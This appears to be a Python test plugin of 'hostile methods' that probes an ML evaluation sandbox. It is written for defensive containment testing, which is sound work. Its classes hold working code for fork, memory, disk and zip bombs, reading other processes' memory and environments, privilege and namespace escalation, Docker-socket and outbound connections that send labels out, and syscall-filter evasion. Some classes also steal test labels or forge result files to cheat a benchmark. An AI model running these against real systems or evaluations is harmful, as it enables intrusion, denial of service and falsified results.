"""Hostile methods, one class an attack. This file is copied into a plugin folder and only ever imported in a sandbox.

An attack prints what it got hold of, as lines that begin with `GOT`, and then predicts like anybody else, unless it is
one that is meant to end the run.
"""

import contextlib
import ctypes
import errno
import gc
import importlib
import json
import mmap
import os
import signal
import socket
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np

from farfield import Images, MethodSpec, Resources, RunContext, TaskFamily, TrackClaims, hookimpl

OUT = Path("/farfield/out")


def got(*what):
    print("GOT", *what, flush=True)


class Method:
    """Predicts by brightness, after the attack."""

    def __init__(self, context: RunContext):
        self.context = context
        self.classes = context.class_count
        self.done = False

    def fit(self, train):
        self.train = train

    def predict(self, images):
        if not self.done:
            self.done = True
            self.attack(images)
        bucket = (images.mean(axis=(1, 2, 3)) / 256 * self.classes).astype(int)
        return np.eye(self.classes, dtype=np.float32)[bucket % self.classes]

    def attack(self, images):
        pass


class Harmless(Method):
    """The next run on the same worker."""


class ReadsTheEnvironment(Method):
    def attack(self, images):
        texts = [str(dict(os.environ))]
        for path in Path("/proc").glob("[0-9]*/environ"):
            with contextlib.suppress(OSError):
                texts.append(path.read_text(errors="replace"))
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            with contextlib.suppress(OSError):
                texts.append(path.read_text(errors="replace"))
        print("\n".join(texts), flush=True)


class SearchesTheFiles(Method):
    """Looks for labels, packs, credentials and other runs in every file it can reach."""

    def attack(self, images):
        for folder, names, files in os.walk("/"):
            if (
                folder in ("/proc", "/sys", "/usr", "/lib", "/lib64", "/dev", "/farfield/base")
                or folder == sys.base_prefix
            ):
                names[:] = []
                continue
            for name in files:
                path = Path(folder) / name
                print("SAW", path)
                with contextlib.suppress(OSError, ValueError):
                    if path.is_fifo():  # the pipe of test inputs, on which one would wait
                        continue
                    if b"canary" in path.read_bytes()[: 1 << 20] and path.suffix != ".py" and path.suffix != ".pyc":
                        got("a canary in", path)
                if name in ("labels.npy", "sets.npy", "domains.npy", "manifest.json") and "train" not in path.parts:
                    got(path)


class ReadsOtherProcesses(Method):
    def attack(self, images):
        mine = os.getpid()
        for path in Path("/proc").glob("[0-9]*"):
            print("PROCESS", (path / "cmdline").read_text(errors="replace").replace("\0", " ")[:80])
            if path.name == str(mine):
                continue
            with contextlib.suppress(OSError), (path / "mem").open("rb") as memory:
                memory.seek(int((path / "maps").read_text().split("-")[0], 16))
                got("memory of", path.name, memory.read(8))
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (1, os.getppid()):
            if pid not in (0, mine) and libc.ptrace(16, pid, 0, 0) == 0:
                got("ptrace of", pid)


class SearchesTheMemory(Method):
    """Labels and platform objects among all objects of this process."""

    def attack(self, images):
        names = [name for name in sys.modules if name.split(".")[0] in FORBIDDEN]
        if names:
            got("modules", names)
        for found in gc.get_objects():
            name = type(found).__module__ or ""
            if str(name).split(".")[0] in FORBIDDEN:
                got("object", type(found))


FORBIDDEN = ("farfield_workers", "farfield_evaluators", "farfield_web", "farfield_local", "farfield_demo", "django")


class ImportsThePlatform(Method):
    def attack(self, images):
        for name in (*FORBIDDEN, "celery", "docker", "sklearn"):
            try:
                __import__(name)
                got("module", name)
            except ImportError:
                pass


class PatchesTheClock(Method):
    """Pretends to take no time at all."""

    def attack(self, images):
        time.sleep(1.2)
        for name in ("time", "monotonic", "perf_counter", "process_time"):
            setattr(time, name, lambda: 0.0)


class ForkBomb(Method):
    def attack(self, images):
        while True:
            with contextlib.suppress(OSError):
                os.fork()


class MemoryBomb(Method):
    def attack(self, images):
        blocks = []
        while True:
            blocks.append(np.ones(1 << 22))


class MemoryBombOfMany(Method):
    """Each process stays below the limit; together they do not."""

    def attack(self, images):
        for _ in range(12):
            if os.fork() == 0:
                block = np.ones(20 << 20)
                time.sleep(600)
                print(block.sum())
        time.sleep(600)


class SharedMemoryBomb(Method):
    def attack(self, images):
        with open("/dev/shm/bomb", "wb") as file:
            while True:
                file.write(bytes(8 << 20))


class AddressSpace(Method):
    """Maps far more than it may have."""

    def attack(self, images):
        held = []
        while True:
            block = mmap.mmap(-1, 64 << 20)
            for at in range(0, len(block), 4096):
                block[at] = 1
            held.append(block)


class DiskBomb(Method):
    def attack(self, images):
        number = 0
        while True:
            with (OUT / f"bomb-{number}").open("wb") as file:
                for _ in range(8):
                    file.write(bytes(1 << 20))
            number += 1


class OneLongFile(Method):
    def attack(self, images):
        with (OUT / "bomb").open("wb") as file:
            while True:
                file.write(bytes(8 << 20))


class SparseFile(Method):
    def attack(self, images):
        with (OUT / "bomb").open("wb") as file:
            file.truncate(1 << 40)
        time.sleep(600)


class ManyFiles(Method):
    def attack(self, images):
        number = 0
        while True:
            (OUT / "work" / str(number)).mkdir()
            number += 1


class FillsTmp(Method):
    def attack(self, images):
        with open("/tmp/bomb", "wb") as file:
            while True:
                file.write(bytes(8 << 20))


class ZipBomb(Method):
    """A weight file of some kilobytes that unpacks to gigabytes."""

    def attack(self, images):
        path = OUT / "work" / "weights.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(4):
                with archive.open(f"weights-{number}", "w") as member:
                    for _ in range(64):
                        member.write(bytes(1 << 20))
        with zipfile.ZipFile(path) as archive:
            archive.extractall(OUT / "work")


class InfiniteLoop(Method):
    def attack(self, images):
        while True:
            pass


class IgnoresSignals(Method):
    def attack(self, images):
        for number in range(1, 32):
            with contextlib.suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(0.01)


class WritesOutside(Method):
    def attack(self, images):
        places = ["/", "/etc", "/usr/lib", "/farfield", "/farfield/in", "/farfield/in/test", "/farfield/base"]
        places += ["/farfield/plugin", "/dev", "/proc/sys/kernel", "/proc/self", "/sys", sys.base_prefix, "/root"]
        for place in places:
            with contextlib.suppress(OSError):
                (Path(place) / "planted").write_text("planted")
                got("wrote in", place)
        for path in ("/farfield/in/job.json", "/farfield/in/test/stream.json", "/farfield/base/farfield/runner.py"):
            with contextlib.suppress(OSError), open(path, "ab"):
                got("opened", path)
            with contextlib.suppress(OSError):
                os.unlink(path)
                got("removed", path)


class Remounts(Method):
    """Tries for privileges: users, namespaces, mounts, devices, modules."""

    def attack(self, images):
        libc = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
            if libc.unshare(flags) == 0:
                got("a namespace", hex(flags))
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            got("a mount")
        if libc.mount(b"none", b"/farfield/in", None, 32, None) == 0:
            got("a remount")
        for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/tmp")):
            with contextlib.suppress(OSError):
                call()
                got("a privilege")
        for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/kvm", "/proc/kcore"):
            with contextlib.suppress(OSError), open(path, "rb"):
                got(path)
        with contextlib.suppress(OSError):
            os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
            got("a device")
        with contextlib.suppress(OSError):
            os.listdir("/proc/1/root")
            got("the root of process 1")


class ConnectsOut(Method):
    """`addresses` in the plugin's folder says where something listens."""

    def attack(self, images):
        targets = json.loads((Path(__file__).parent / "addresses.json").read_text())
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", targets["port"])),
            (socket.AF_INET6, ("::1", targets["port6"])),
            (socket.AF_INET, (targets["host"], targets["port"])),
            (socket.AF_INET, ("192.0.2.1", 80)),
            (socket.AF_UNIX, targets["unix"]),
            (socket.AF_UNIX, "\0" + targets["abstract"]),
            (socket.AF_UNIX, "/var/run/docker.sock"),
            (socket.AF_UNIX, "/run/systemd/notify"),
        ):
            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as one:
                one.settimeout(1)
                one.connect(address)
                got("a connection to", address)
        with contextlib.suppress(OSError):
            got("an address", socket.getaddrinfo("example.com", 80))
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"label", (targets["host"], 53))
            got("a datagram left")
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
            got("a raw socket")


class OpensOddSockets(Method):
    """Families that no network namespace holds back, or that have the kernel load modules for anybody."""

    def attack(self, images):
        usual = (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK)
        protocols = (1, 33, 58, 103, 115, 132, 136, 255, 262)
        tried = [(family, kind, 0) for family in range(64) if family not in usual for kind in range(1, 7)]
        tried += [(f, kind, p) for f in (socket.AF_INET, socket.AF_INET6) for kind in range(1, 7) for p in protocols]
        tried += [(socket.AF_NETLINK, socket.SOCK_RAW, protocol) for protocol in range(1, 32)]
        for one in tried:
            with contextlib.suppress(OSError), socket.socket(*one):
                got("a socket", one)
        with contextlib.suppress(OSError):
            got("a pair", socket.socketpair(30, socket.SOCK_STREAM))
        self.by_high_bits()

    def by_high_bits(self):
        """The kernel looks at half of the register; the filter must not be fooled by the other."""
        libc = ctypes.CDLL(None, use_errno=True)
        for family in (socket.AF_VSOCK | 1 << 32, socket.AF_ALG | 1 << 32):
            if libc.syscall(*(ctypes.c_long(n) for n in (self.number, family, socket.SOCK_STREAM, 0))) >= 0:
                got("a socket by high bits", family)

    number = {"x86_64": 41, "aarch64": 198}[os.uname().machine]


class CallsTheKernel(Method):
    """System calls that no method needs, by their numbers: those of today, and those that no table knows yet."""

    def attack(self, images):
        libc = ctypes.CDLL(None, use_errno=True)
        numbers = NUMBERS[os.uname().machine]
        for name, number in {**numbers, "one of tomorrow": 999}.items():
            libc.syscall(ctypes.c_long(number), *[ctypes.c_long(-1)] * 6)
            if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
                got("an answer from", name, ctypes.get_errno())


NUMBERS = {
    "x86_64": {
        "ptrace": 101, "personality": 135, "modify_ldt": 154, "mount": 165, "iopl": 172, "keyctl": 250,
        "migrate_pages": 256, "unshare": 272, "move_pages": 279, "perf_event_open": 298, "fanotify_init": 300,
        "process_vm_readv": 310, "bpf": 321, "userfaultfd": 323, "io_uring_setup": 425, "open_tree": 428,
        "fsopen": 430, "clone3": 435, "pidfd_getfd": 438, "mount_setattr": 442, "memfd_secret": 447,
    },
    "aarch64": {
        "mount": 40, "personality": 92, "unshare": 97, "ptrace": 117, "keyctl": 219, "perf_event_open": 241,
        "fanotify_init": 262, "process_vm_readv": 270, "bpf": 280, "userfaultfd": 282, "io_uring_setup": 425,
        "open_tree": 428, "fsopen": 430, "clone3": 435, "pidfd_getfd": 438, "mount_setattr": 442, "memfd_secret": 447,
    },
}  # fmt: skip


class LeavesADaemon(Method):
    def attack(self, images):
        script = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(600)"
        subprocess.Popen([sys.executable, "-c", script, "farfield-daemon"])
        time.sleep(0.3)


class KillsEverything(Method):
    def attack(self, images):
        for pid in (1, os.getppid(), -1):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)


def test_inputs():
    """How many there are."""
    return json.loads(Path("/farfield/in/test/stream.json").read_text())["count"]


class Forges(Method):
    """Writes its own output and leaves before the runner can."""

    def forge(self, count):
        np.save(OUT / "logits.npy", np.zeros((count, self.classes), np.float32))

    def attack(self, images):
        self.forge(test_inputs())
        (OUT / "result.json").write_text('{"outputs": ["logits"]}')
        os._exit(0)


class FloodsTheLog(Method):
    def attack(self, images):
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            os.write(1, b"y" * 65536)
        print("the last line", flush=True)


class ClosesItsOutput(Method):
    def attack(self, images):
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):
                os.close(descriptor)


def name_of(words):
    return "hostile" + "".join("-" + c.lower() if c.isupper() else c for c in words.replace("NaN", "Nan"))


def spec(build):
    return MethodSpec(
        name=name_of(build.__name__),
        family=TaskFamily.CLASSIFICATION,
        summary=build.__name__,
        build=build,
        inputs=Images(size=16),
        claims=TrackClaims(backbone="none"),
        resources=Resources(memory_gib=0.5, minutes=0.1),
    )


def every(kind):
    for one in kind.__subclasses__():
        if one is not Forges:
            yield one
        yield from every(one)


@hookimpl
def farfield_methods():
    for name in ("hostile_disk", "hostile_inputs", "hostile_outputs"):  # their classes are found as subclasses of ours
        importlib.import_module(name)
    return [spec(build) for build in every(Method)]
